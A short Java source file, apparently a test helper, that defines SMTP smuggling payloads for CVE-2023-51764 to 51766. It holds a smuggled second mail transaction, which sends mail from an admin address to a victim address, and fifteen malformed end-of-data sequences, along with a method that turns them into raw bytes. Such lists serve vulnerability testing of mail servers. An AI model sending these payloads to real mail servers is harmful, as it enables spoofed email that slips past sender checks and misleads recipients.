package io.delist.smtp;

import java.util.stream.Stream;

/**
 * The vectors of SMTP smuggling (CVE-2023-51764 to 51766): what is not CR LF, dot, CR LF and was
 * taken by some server for the end of a message, with a second transaction behind it.
 */
public final class SmtpSmuggling {

  public static final String FIRST = "Subject: first\r\n\r\ntext";
  public static final String SECOND =
      String.join(
          "\r\n",
          "MAIL FROM:<admin@example.org>",
          "RCPT TO:<victim@example.org>",
          "DATA",
          "Subject: second",
          "",
          "smuggled",
          ".",
          "");

  private SmtpSmuggling() {}

  public static Stream<String> falseEnds() {
    return Stream.of(
        "<LF>.<CR><LF>",
        "<LF>.<LF>",
        "<CR>.<CR>",
        "<CR><LF>.<LF>",
        "<CR><LF>.<CR>",
        "<CR>.<CR><LF>",
        "<LF>.<CR>",
        "<CR>.<LF>",
        "<CR><LF><NUL>.<CR><LF>",
        "<CR><LF>.<NUL><CR><LF>",
        "<CR><CR><LF>.<LF>",
        "<LF><CR>.<CR><LF>",
        "<CR><LF>.<CR><CR><LF>",
        "<CR><LF>..<LF>",
        "<CR><LF>..<CR><LF>");
  }

  public static String octets(String name) {
    return name.replace("<CR>", "\r").replace("<LF>", "\n").replace("<NUL>", "\0");
  }
}
